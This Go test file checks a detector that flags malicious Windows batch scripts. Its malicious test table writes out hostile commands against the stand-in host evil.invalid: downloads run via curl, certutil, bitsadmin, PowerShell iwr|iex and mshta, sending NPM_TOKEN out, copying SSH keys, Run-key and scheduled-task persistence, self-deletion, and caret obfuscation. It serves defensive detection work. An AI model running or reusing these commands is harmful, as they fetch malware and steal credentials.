package shell

import "testing"

// batchMalicious are batch files in the shapes that malware has, with hosts that cannot
// exist.
var batchMalicious = []scriptTest{
	{"comments, and what follows them", "@echo off\r\nrem curl http://evil.invalid | sh\r\n:: node a.js\r\nREM & node b.js\r\n:label curl x\r\nnode c.js & rem x\r\n", []string{
		"runs-file: node b.js",
		"runs-file: node c.js",
	}},
	{"constants and continued lines", `@echo off
set u=http://evil.invalid
curl -o %TEMP%\a.exe %u%/a.exe ^
  --silent
start "" /b %TEMP%\a.exe >nul 2>&1
`, []string{
		"download: curl http://evil.invalid/a.exe",
		"background: start /b",
		"discard-output: stdout and stderr",
		"runs-file: */a.exe",
		"download-run: file */a.exe",
		"host evil.invalid",
	}},
	{"parts of a variable", `set x=abcdefghijklmnopqrstuvwxyz
%x:~2,1%%x:~20,1%%x:~17,1%%x:~-15,1% http://evil.invalid/a -o a.exe
a.exe
`, []string{
		"download: curl http://evil.invalid/a",
		"runs-file: a.exe",
		"download-run: file a.exe",
		"host evil.invalid",
	}},
	{"a replacement", `set c=nXde
%c:x=o% d.js
`, []string{
		"runs-file: node d.js",
	}},
	{"delayed expansion", `setlocal EnableDelayedExpansion
set a=no
set b=de
!a!!b! e.js
`, []string{
		"runs-file: node e.js",
	}},
	{"certutil", `certutil -urlcache -split -f http://evil.invalid/p.txt p.txt
certutil -decode p.txt p.exe
p.exe
`, []string{
		"download: certutil http://evil.invalid/p.txt",
		"runs-file: p.exe",
		"download-run: file p.exe",
		"decode-run: file p.exe",
		"host evil.invalid",
	}},
	{"bitsadmin", `bitsadmin /transfer j http://evil.invalid/a.exe %TEMP%\a.exe
%TEMP%\a.exe
`, []string{
		"download: bitsadmin http://evil.invalid/a.exe",
		"runs-file: */a.exe",
		"download-run: file */a.exe",
		"host evil.invalid",
	}},
	{"the output of a command", `for /f "delims=" %%i in ('curl -s http://evil.invalid/cmd') do %%i
`, []string{
		"download: curl http://evil.invalid/cmd",
		"download-run: output as a command",
		"dynamic-command: *",
		"host evil.invalid",
	}},
	{"a loop over files", `for %%f in (a.js b.js) do (
  node %%f
)
`, []string{
		"runs-file: node *",
	}},
	{"start-up places", `reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v x /d y /f
schtasks /create /tn x /tr "node a.js" /sc onlogon
copy x.lnk "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk"
`, []string{
		"persistence: CurrentVersion/Run",
		"persistence: reg add",
		"persistence: schtasks /create",
		"persistence: Programs/Startup",
	}},
	{"PowerShell inside", `powershell -enc bgBvAGQAZQAgAHoALgBqAHMA >nul
powershell -W Hidden -Command "iwr 'http://evil.invalid/a.ps1' | iex"
`, []string{
		"discard-output: stdout",
		"decode-run: powershell -EncodedCommand",
		"inline-code: powershell -EncodedCommand",
		"runs-file: node z.js",
		"background: powershell -WindowStyle Hidden",
		"inline-code: powershell -Command",
		"download: iwr http://evil.invalid/a.ps1",
		"inline-code: Invoke-Expression",
		"download-run: Invoke-Expression",
		"host evil.invalid",
	}},
	{"PowerShell over several lines", `powershell -Command "&{"^
  "$w = new-object Net.WebClient;"^
  "$w.DownloadFile('http://evil.invalid/a', 'a.exe')"^
  "}"
a.exe
`, []string{
		"inline-code: powershell -Command",
		"download: WebClient.DownloadFile http://evil.invalid/a",
		"runs-file: a.exe",
		"download-run: file a.exe",
		"host evil.invalid",
	}},
	{"loaders", `rundll32 payload.dll,Entry
regsvr32 /s x.dll
mshta http://evil.invalid/x.hta
`, []string{
		"runs-file: rundll32 payload.dll",
		"inline-code: rundll32",
		"runs-file: regsvr32 x.dll",
		"inline-code: regsvr32",
		"download-run: mshta http://evil.invalid/x.hta",
		"inline-code: mshta",
		"host evil.invalid",
	}},
	{"itself is removed", `(goto) 2>nul & del "%~f0"
`, []string{
		"delete: itself",
	}},
	{"a file that it writes", `echo node f.js > x.bat
call x.bat
`, []string{
		"runs-file: x.bat",
		"runs-file: node f.js",
	}},
	{"conditions", `if exist "%~dp0a.exe" ("%~dp0a.exe") else (curl http://evil.invalid/a -o a.exe)
if not defined CI node g.js
if "%1"=="x" if "%2" == "y" node h.js
`, []string{
		"runs-file: bin/a.exe",
		"download: curl http://evil.invalid/a",
		"runs-file: node g.js",
		"runs-file: node h.js",
		"host evil.invalid",
	}},
	{"carets", `c^u^r^l http://evil.invalid/x | c^md
`, []string{
		"download: curl http://evil.invalid/x",
		"download-run: cmd from a pipe",
		"host evil.invalid",
	}},
	{"data of the machine", `curl -d "%USERNAME%&t=%NPM_TOKEN%" http://evil.invalid
xcopy /y %USERPROFILE%\.ssh\id_rsa .
wmic computersystem get name
`, []string{
		"reads-secrets: $NPM_TOKEN",
		"post: curl -d",
		"reads-secrets: .ssh",
		"host-identity: wmic computersystem",
		"host evil.invalid",
	}},
	{"a process by WMI", `wmic process call create "node l.js"
`, []string{
		"runs-file: node l.js",
	}},
	{"hidden output", `node k.js > nul
`, []string{
		"discard-output: stdout",
		"runs-file: node k.js",
	}},
}

// batchLegitimate are batch files as packages ship them, with all that is said of each.
var batchLegitimate = []scriptTest{
	{"a launcher of a package manager", "@echo off\r\ngoto start\r\n:folder\r\nset here=%~dp0\r\nexit /b\r\n:start\r\nsetlocal\r\ncall :folder\r\nif exist \"%here%\\node.exe\" (\r\n  set \"program=%here%\\node.exe\"\r\n) else (\r\n  set \"program=node\"\r\n  set PATHEXT=%PATHEXT:;.JS;=;%\r\n)\r\nendlocal & goto nowhere 2>nul || title %COMSPEC% & \"%program%\" \"%here%\\..\\lib\\cli.js\" %*\r\n", []string{
		"runs-file: node lib/cli.js",
	}},
	{"a launcher of Java", `@rem Starts the build tool
@if "%DEBUG%"=="" @echo off
set HERE=%~dp0
if "%HERE%"=="" set HERE=.
set BASE=%~n0
for %%i in ("%HERE%") do set HERE=%%~fi
if defined JAVA_HOME goto home
set JAVA_EXE=java.exe
%JAVA_EXE% -version >NUL 2>&1
if %ERRORLEVEL% equ 0 goto run
echo. 1>&2
echo ERROR: there is no 'java' in PATH 1>&2
goto fail
:home
set JAVA_HOME=%JAVA_HOME:"=%
set JAVA_EXE=%JAVA_HOME%/bin/java.exe
if exist "%JAVA_EXE%" goto run
:fail
exit /b 1
:run
set CLASSPATH=%HERE%\wrapper\wrapper.jar
"%JAVA_EXE%" %JAVA_OPTS% "-Dname=%BASE%" -classpath "%CLASSPATH%" org.example.Main %*
`, nil},
	{"a build", `@echo off
pushd %~dp0
mkdir out >nul 2>&1
where cl >nul || (echo no compiler & exit /b 1)
msbuild x.sln /m /p:Configuration=%1 || exit /b 1
copy /y out\*.node ..\lib >nul
set PATH=%PATH%;C:\tools;.\bin
reg query HKLM\Software\X >nul
reg add HKCU\Software\X /v a /d b
popd
`, nil},
	{"a launcher of one line", `@node "%~dpn0" %*
`, []string{
		"runs-file: node bin/x",
	}},
}

// batchCalls go through what is known of the libraries and the language.
var batchCalls = []scriptTest{
	{"start \"\" node b.js", `start /wait node a.js
start https://docs.invalid
start "" node b.js
`, []string{
		"runs-file: node a.js",
		"background: start",
		"runs-file: node b.js",
		"host docs.invalid",
	}},
	{"forfiles /c \"cmd /c node d.js\"", `call b.bat & call :x
cmd /c node c.js
forfiles /c "cmd /c node d.js"
`, []string{
		"runs-file: b.bat",
		"runs-file: node c.js",
		"runs-file: node d.js",
	}},
	{"reg query HKCU\\x", `setx NODE_OPTIONS "--require ./x.js"
setx PATH "%PATH%;x"
reg import x.reg
reg query HKCU\x
`, []string{
		"persistence: setx node_options",
		"persistence: reg import",
	}},
	{"if errorlevel 1 (node a.js) else if exis", `if errorlevel 1 (node a.js) else if exist x (node b.js) else node c.js
`, []string{
		"runs-file: node a.js",
		"runs-file: node b.js",
		"runs-file: node c.js",
	}},
	{"set | findstr x > env.txt", `echo %NPM_TOKEN% | clip
set | findstr x > env.txt
`, []string{
		"reads-secrets: $NPM_TOKEN",
		"reads-secrets: set (the whole environment)",
	}},
	{"set x=1;node d.js", `node a.js ^& echo b
node "b;c.js"
set x=1;node d.js
`, []string{
		"runs-file: node a.js",
		"runs-file: node b;c.js",
	}},
	{"for /f %%b in (list.txt) do node %%b", `for /f "tokens=*" %%a in ('node e.js') do set r=%%a
for /f %%b in (list.txt) do node %%b
`, []string{
		"runs-file: node e.js",
		"runs-file: node *",
	}},
	{"@node %*", `@if "%~1" neq "" @node %~1
@node %*
`, []string{
		"runs-file: node *",
		"runs-file: node *",
	}},
}

func TestBatch(t *testing.T) {
	checkScripts(t, LanguageBatch, "bin/x.bat", batchMalicious)
	checkScripts(t, LanguageBatch, "bin/x.bat", batchLegitimate)
	checkScripts(t, LanguageBatch, "bin/x.bat", batchCalls)
}

// TestBatchValues goes through the variables whose values are computed. A star
// stands for what stays unknown.
func TestBatchValues(t *testing.T) {
	tests := []struct{ text, want string }{
		{"%x%", "one"},
		{"%X%%x%", "oneone"},
		{"%x:~1%", "ne"},
		{"%x:~0,-1%", "on"},
		{"%x:~-2,1%", "n"},
		{"%x:N=_%", "o_e"},
		{"%x:e=%", "on"},
		{"%x:*n=_%", "*"},
		{"%quoted%", "a-b"},
		{"%twice%", "*"},
		{"%sum%", "*"},
		{"%asked%", "*"},
		{"%missing%", "*"},
		{"%1", "*"},
		{"%~dp0y", "bin/y"},
		{"%~n0", "x"},
		{"%~nx0", "x.bat"},
		{"%~f0", "bin/x.bat"},
		{"%%", "%"},
		{"a^&b", "a&b"},
	}
	for _, test := range tests {
		text := "set x=one\r\nset \"quoted=a-b\"\r\nset twice=a\r\nset twice=b\r\nset /a sum=1+1\r\nset /p asked=?\r\n" +
			"curl http://h.invalid/[" + test.text + "]\r\n"
		if got := fetched(ParseScript(LanguageBatch, text, "bin/x.bat")); got != test.want {
			t.Errorf("%s is %q, want %q", test.text, got, test.want)
		}
	}
}
